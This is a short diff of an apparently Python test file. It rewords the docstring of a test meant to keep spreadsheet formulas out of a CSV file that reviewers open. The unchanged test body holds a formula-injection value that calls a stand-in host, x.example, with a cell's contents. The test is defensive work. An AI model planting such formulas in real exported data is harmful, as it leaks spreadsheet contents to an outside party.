@@ -247,7 +247,7 @@ def test_verdicts_that_cannot_be_read(tmp_path, cases):
 
 
 def test_nothing_in_the_file_for_reviewers_is_a_formula(window, tmp_path):
-    """Ids and columns come from whoever makes a payment, and reviewers open them in a spreadsheet."""
+    """Ids and columns come from whoever pays, and reviewers open them in a spreadsheet."""
     _, labels, scores = window
     link = '=HYPERLINK("http://x.example/?"&A1)'
     rows = tmp_path / "rows.csv"
